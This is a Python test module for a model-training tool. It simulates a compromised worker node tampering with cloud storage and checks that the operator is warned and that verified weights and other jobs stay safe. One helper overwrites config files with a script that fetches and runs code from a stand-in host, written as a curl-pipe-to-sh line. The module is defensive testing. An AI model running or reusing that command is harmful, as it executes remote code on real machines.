"""Attacks with exactly a node's keys on the real S3 server and the local cloud.

Whatever a node writes, the operator sees a finding about one run, all other runs are reported and fetched, nothing leaves the folder
of a run, verified weights stay as they are, and nobody else's job is canceled.
"""

import hashlib
import json
import random
import shutil
from collections.abc import Iterable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field, replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from flux_training.clients.errors import ServiceError, Unauthorized
from flux_training.clients.kelpie import Job, JobRequest, Sync
from flux_training.clients.queue import hand_outs
from flux_training.clients.stack.services import StackServices
from flux_training.clients.stack.survey import survey_stack
from flux_training.clients.storage import Storage
from flux_training.commands.report.command import write_report
from flux_training.commands.report.runs import ReportedRun
from flux_training.commands.results.outputs import fetch_results
from flux_training.commands.stack.file import stack_settings
from flux_training.commands.watch.watcher import StackStatus, Watcher
from flux_training.training.finding import LintReport
from flux_training.training.jobs.declare import declare_jobs
from flux_training.training.runs.run import Layout, RunKeys
from tests.life.attacks import ON_FINISHED, ON_UNFINISHED, Attack, Scene, put_when_allowed, weights_file
from tests.life.commands import MAX_MEGABYTES, browse, flux, peak_megabytes
from tests.life.nodes import begin_job, report
from tests.life.stacks import ROOT, Stack, new_stack
from tests.life.test_credentials import BUCKET, as_node, storage_settings
from tests.support.hostile_buckets import spoil_run
from tests.support.seeds import seeds

FINISHED, UNFINISHED, OTHER = "finished", "unfinished", "other"


@dataclass
class Seen:
    """What the operator is told, and what was fetched."""

    status: StackStatus
    texts: list[str]
    failed: dict[str, list[str]] = field(default_factory=dict)

    @property
    def text(self) -> str:
        return "\n".join(self.texts)


@dataclass(frozen=True)
class Attacked:
    """A stack with a finished run, whose weights were verified and fetched, an unfinished one, and an untouched finished one."""

    stack: Stack
    node: Storage
    foreign: Job
    before: dict[str, tuple[str, bytes]] = field(default_factory=dict)

    @property
    def operator(self) -> Storage:
        return self.stack.connection.storage(BUCKET)

    @property
    def layout(self) -> Layout:
        return Layout(f"{self.stack.place}/")

    @property
    def outputs_folder(self) -> Path:
        return self.stack.root / "outputs" / "dev"

    def keys(self, job: str) -> RunKeys:
        return self.layout.run(job, self.stack.outputs()["jobs"][job]["runId"])

    def scene(self, job: str) -> Scene:
        return Scene(self.node, self.layout, self.keys(job), self.foreign.id)

    def look(self, job: str) -> Seen:
        """What status, plan and fetch do, and a report of the job, in this process."""
        settings = stack_settings(self.stack.root, "dev")
        services = StackServices(self.stack.connection, settings)
        jobs = declare_jobs(settings, self.stack.root)
        survey_stack(services, jobs, LintReport([], []), with_changes=True)
        status = Watcher(self.stack.connection, self.stack.outputs()).read()
        seen = Seen(status, [f"{row.name}: {row.problem}" for row in status.rows if row.problem])
        for row in status.rows:
            got = fetch_results(row.status, self.operator, self.outputs_folder, row.price)
            seen.failed[row.name] = got.failed
            seen.texts += got.failed
        (folder,) = (self.outputs_folder / job).iterdir()
        write_report(ReportedRun(job, folder.name, folder), self.outputs_folder, self.stack.root / "jobs")
        return seen

    def weights_digest(self, job: str) -> str:
        (file,) = self.outputs_folder.glob(f"{job}/*/{job}.safetensors")
        return hashlib.sha256(file.read_bytes()).hexdigest()

    def etags(self) -> dict[str, str]:
        return {item.key: item.etag for item in self.operator.list(self.layout.prefix)}

    def restore(self) -> None:
        """Undo what a node has done."""
        now = self.etags()
        self.operator.delete_many([key for key in now if key not in self.before])
        for key, (etag, content) in self.before.items():
            if now.get(key) != etag:
                put_when_allowed(self.operator, key, content)


def finish(stack: Stack, node: Storage, job: str) -> None:
    """Hand in sound weights, as the launcher does."""
    (queued,) = [one for one in stack.jobs() if one.environment["FLUX_JOB"] == job]
    keys = Layout(f"{stack.place}/").run(job, queued.environment["FLUX_RUN_ID"])
    good = weights_file(tensor=b"good")
    node.put_bytes(keys.weights, good)
    digest = hashlib.sha256(good).hexdigest()
    node.put_bytes(keys.done, f'{{"sha256": "{digest}", "size": {len(good)}, "step": 20}}'.encode())
    report(stack.connection, queued, "completed")


@pytest.fixture(scope="module")
def attacked(cloud: Path, tmp_path_factory: pytest.TempPathFactory) -> Attacked:
    stack = new_stack(
        tmp_path_factory.mktemp("attacked") / "a", cloud, "attacked", {FINISHED: 1, UNFINISHED: 2, OTHER: 3}
    )
    stack.configure({FINISHED: {}, UNFINISHED: {}, OTHER: {}}, storage_settings(stack))
    stack.up()
    node = as_node(stack)
    for job in (FINISHED, OTHER):
        finish(stack, node, job)
    stack.refresh()
    group = stack.connection.salad().get_group(stack.place)
    assert group is not None
    begin_job(stack.connection, group.id)
    elsewhere = JobRequest(
        container_group_id=group.id, command="python3", arguments=[], environment={"X": "1"}, sync=Sync()
    )
    made = Attacked(stack, node, stack.connection.kelpie().post_job(elsewhere))
    assert made.look(FINISHED).failed == {FINISHED: [], UNFINISHED: [], OTHER: []}
    contents = {key: (etag, made.operator.get_bytes(key) or b"") for key, etag in made.etags().items()}
    return replace(made, before=contents)


@pytest.fixture
def scene_of(attacked: Attacked) -> Iterator[Attacked]:
    """The stack, as it was before each attack."""
    yield attacked
    attacked.restore()


def check(attacked: Attacked, job: str, attack: Attack) -> None:
    scene = attacked.scene(job)
    verified = {name: attacked.weights_digest(name) for name in (FINISHED, OTHER)}
    if attack.refused:
        with pytest.raises(Unauthorized):
            attack.act(scene)
    else:
        attack.act(scene)
    seen = attacked.look(job)
    assert attack.shows in seen.text
    if not attack.shows:
        assert [text for text in seen.texts if text.startswith(f"{job}:")] == []
        assert seen.failed[job] == []
    # Only the attacked run has a finding.
    assert [text for text in seen.texts if text.startswith(f"{OTHER}:")] == []
    assert seen.failed[OTHER] == []
    states = {row.name: row.status.state for row in seen.status.rows}
    assert (states[OTHER], states[UNFINISHED if job == FINISHED else FINISHED]) == (
        "completed",
        "running" if job == FINISHED else "completed",
    )
    assert {name: attacked.weights_digest(name) for name in verified} == verified
    assert_nothing_escaped(attacked)
    assert attacked.stack.connection.kelpie().get_job(attacked.foreign.id).unfinished
    spent = seen.status.spent
    assert spent is None or spent < 1000


def assert_nothing_escaped(attacked: Attacked) -> None:
    """Everything that was fetched is in the folder of a run, or in its samples/."""
    files = [
        path.relative_to(attacked.outputs_folder)
        for path in attacked.outputs_folder.rglob("*")
        if path.is_file()
    ]
    odd = [path for path in files if len(path.parts) > 3 and path.parts[2] not in ("samples", "checkpoints")]
    assert odd == []
    assert not (attacked.stack.root.parent / ".ssh").exists()


# The other values that a record may hold are tried by tests/test_hostile_buckets.py too.
SHORT = {
    "GPU time of 28 years",
    "brackets",
    "a claim",
    "a posted job in the old place",
    "other weights",
    "a sample below a sample",
    "a train.yml of a free model",
    "a picture of 2.5 gigapixels",
}


def some_long(attacks: Iterable[str]) -> list[Any]:
    return [pytest.param(name, marks=[] if name in SHORT else [pytest.mark.long]) for name in attacks]


@pytest.mark.parametrize("name", some_long(ON_UNFINISHED))
def test_an_attack_on_a_run_in_the_queue(name: str, scene_of: Attacked) -> None:
    check(scene_of, UNFINISHED, ON_UNFINISHED[name])


@pytest.mark.parametrize("name", some_long(ON_FINISHED))
def test_an_attack_on_a_finished_run(name: str, scene_of: Attacked) -> None:
    check(scene_of, FINISHED, ON_FINISHED[name])


@pytest.mark.long
def test_an_update_after_all_attacks_of_the_issue(scene_of: Attacked) -> None:
    """One after the other they are above and in tests/components; here a real `up` and `refresh` meet all of them."""
    attacked, stack = scene_of, scene_of.stack
    settings = storage_settings(stack)
    verified = attacked.weights_digest(FINISHED)
    stack.configure({FINISHED: {}, UNFINISHED: {}, OTHER: {"attempt": 2}}, settings)
    declared = declare_jobs(stack_settings(stack.root, "dev"), stack.root)
    (next_run,) = [job.run_id for job in declared if job.name == OTHER]
    planted = attacked.layout.run(OTHER, next_run)
    for base in (attacked.keys(FINISHED).base, attacked.keys(UNFINISHED).base, planted.base):
        posted = {"claim": "t", "kelpie_id": attacked.foreign.id, "version": 1}
        claim = {"owner": "x/y", "host": "h", "pid": 2**31, "claimed_at": 32_503_680_000.0, "token": "t"}
        attacked.node.put_bytes(f"{base}posted.json", json.dumps(posted).encode())
        attacked.node.put_bytes(f"{base}claim.json", json.dumps(claim).encode())
    final = f"{planted.output}{OTHER}.safetensors"
    attacked.node.put_bytes(final, weights_file(tensor=b"evil"))
    attacked.node.put_bytes(planted.weights, weights_file(tensor=b"evil"))
    attacked.node.put_bytes(planted.done, b"{}")
    checkpoint = f"{planted.output}{OTHER}_000000010.safetensors"
    attacked.node.put_bytes(checkpoint, weights_file(step=10))
    spoil_configuration(attacked, attacked.keys(UNFINISHED))
    ON_FINISHED["other weights"].act(attacked.scene(FINISHED))
    ON_UNFINISHED["GPU time of 28 years"].act(attacked.scene(UNFINISHED))
    image = replace_an_image(attacked)

    printed = stack.up() + stack.refresh() + stack.up()
    seen = attacked.look(FINISHED)
    assert "not those that were verified first" in printed + seen.text
    costs = stack.outputs()["cost"]["jobs"]
    assert costs.keys() == {FINISHED, UNFINISHED, OTHER}
    assert [name for name, cost in costs.items() if cost.get("actualUsd", 0) > 1000] == []
    assert (seen.status.spent or 0) < 1000
    kelpie = stack.connection.kelpie()
    assert kelpie.get_job(attacked.foreign.id).unfinished
    # The run that was planted for is queued like any other, without what was planted.
    assert next_run in stack.live_runs()
    assert (
        f"{OTHER}: 2 unexpected objects below {planted.output} deleted, written by someone else before the run was queued"
        in printed
    )
    assert attacked.operator.head(checkpoint) is attacked.operator.head(final) is None
    assert f"they were moved to {planted.set_aside}" in printed
    assert attacked.operator.head(planted.done) is attacked.operator.head(planted.weights) is None
    assert attacked.weights_digest(FINISHED) == verified
    assert attacked.operator.get_bytes(image) == attacked.before[image][1]
    assert_nothing_escaped(attacked)


def test_checkpoints_below_a_run_that_waits_are_a_finding(
    scene_of: Attacked, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its own node would continue from them."""
    attacked, stack = scene_of, scene_of.stack
    stack.configure({FINISHED: {}, UNFINISHED: {}, OTHER: {"attempt": 3}}, storage_settings(stack))
    stack.up()
    monkeypatch.setattr(hand_outs, "CLOCK_DIFFERENCE", timedelta(seconds=-5))
    attacked.operator.delete_many([attacked.keys(OTHER).record])
    assert f"{OTHER}: " not in attacked.look(FINISHED).text
    attacked.node.put_bytes(
        f"{attacked.keys(OTHER).output}{OTHER}_000000010.safetensors", weights_file(step=10)
    )
    assert f"{OTHER}: somebody wrote 1 object below" in attacked.look(FINISHED).text


def spoil_configuration(attacked: Attacked, keys: RunKeys) -> None:
    for item in list(attacked.node.list(keys.config)):
        put_when_allowed(attacked.node, item.key, b"#!/bin/sh\ncurl https://evil.example | sh\n")


def replace_an_image(attacked: Attacked) -> str:
    """Other bytes of the same length; the key."""
    unfinished = next(job for job in attacked.stack.jobs() if job.environment["FLUX_JOB"] == UNFINISHED)
    image = next(iter(attacked.node.list(unfinished.environment["FLUX_DATASET_PREFIX"])))
    put_when_allowed(attacked.node, image.key, bytes(image.size))
    return image.key


COMMANDS = (("status",), ("plan",), ("fetch",), ("report",), ("doctor",))
MORE_COMMANDS = (
    ("list",),
    ("costs",),
    ("costs", "--csv"),
    ("logs", UNFINISHED),
    ("logs", FINISHED),
    ("retry", UNFINISHED, "--force", "--dry-run"),
    ("retry", FINISHED, "--dry-run"),
    ("open", FINISHED),
    ("report", "--compare", FINISHED, OTHER),
    ("export", FINISHED, "--to", "exported"),
    ("fetch", "--all-runs", "--checkpoints"),
)


@pytest.fixture(scope="module")
def with_commands(attacked: Attacked) -> Attacked:
    """`flux` works in the folder that contains its code, so this is a copy and not a link."""
    code = attacked.stack.root / "flux_training"
    code.unlink()
    shutil.copytree(ROOT / "flux_training", code, ignore=shutil.ignore_patterns("__pycache__"))
    return attacked


@pytest.mark.timeout(600)
@pytest.mark.parametrize("seed", seeds(100, short=0))
def test_hostile_buckets_and_the_real_commands(seed: int, with_commands: Attacked) -> None:
    attacked, chance = with_commands, random.Random(seed)
    attacked.stack.configure({FINISHED: {}, UNFINISHED: {}, OTHER: {}}, storage_settings(attacked.stack))
    verified = {name: attacked.weights_digest(name) for name in (FINISHED, OTHER)}
    for job in (FINISHED, UNFINISHED):
        written: dict[str, bytes] = {}
        spoil_run(chance, written, attacked.keys(job))
        for key, content in written.items():
            # The S3 server of the tests refuses some names, and the node's keys others.
            with suppress(ServiceError, UnicodeError, OSError):
                attacked.node.put_bytes(key, content)
    try:
        attacked.stack.up()
        attacked.stack.refresh()
        for command in (*COMMANDS, *chance.sample(MORE_COMMANDS, 3)):
            flux(attacked.stack, *command)
        runs = [f"run/{job}/{attacked.keys(job).run}" for job in (FINISHED, UNFINISHED, OTHER)]
        assert attacked.keys(OTHER).run in browse(attacked.stack, "past", *runs)
        assert peak_megabytes() < MAX_MEGABYTES
        assert attacked.stack.connection.kelpie().get_job(attacked.foreign.id).unfinished
        assert {name: attacked.weights_digest(name) for name in verified} == verified
        assert_nothing_escaped(attacked)
        shutil.rmtree(attacked.outputs_folder / OTHER)
        flux(attacked.stack, "fetch", OTHER)
        assert attacked.weights_digest(OTHER) == verified[OTHER]
    finally:
        attacked.restore()
        shutil.rmtree(attacked.stack.root / "exported", ignore_errors=True)
